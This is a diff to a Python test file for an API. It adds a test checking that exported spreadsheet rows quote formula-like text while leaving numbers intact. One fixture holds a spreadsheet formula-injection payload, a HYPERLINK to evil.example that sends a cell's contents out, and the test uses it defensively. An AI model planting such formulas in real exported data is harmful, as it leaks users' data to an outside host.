@@ -39,3 +39,12 @@ def test_unknown_query_parameters_are_named():
         check_query_parameters(request, ("symbol",))
     assert refused.value.detail == {"sybmol": ["unknown query parameter"], "zz": ["unknown query parameter"]}
     check_query_parameters(Request(APIRequestFactory().get("/x/", {"symbol": "A", "offset": "0"})), ("symbol",))
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_and_numbers_stay_numbers():
+    rows = _rows([{"reason": '=HYPERLINK("http://evil.example/?d="&B2,"details")', "pnl": "-12.50"},
+                  {"reason": "@SUM(A1:A9)", "pnl": "+3"}, {"reason": "-x", "pnl": "-1e-05"},
+                  {"reason": "daily loss -3 %", "pnl": "0"}])
+    assert [r["reason"] for r in rows] == ['\'=HYPERLINK("http://evil.example/?d="&B2,"details")', "'@SUM(A1:A9)",
+                                           "'-x", "daily loss -3 %"]
+    assert [r["pnl"] for r in rows] == ["-12.50", "+3", "-1e-05", "0"]
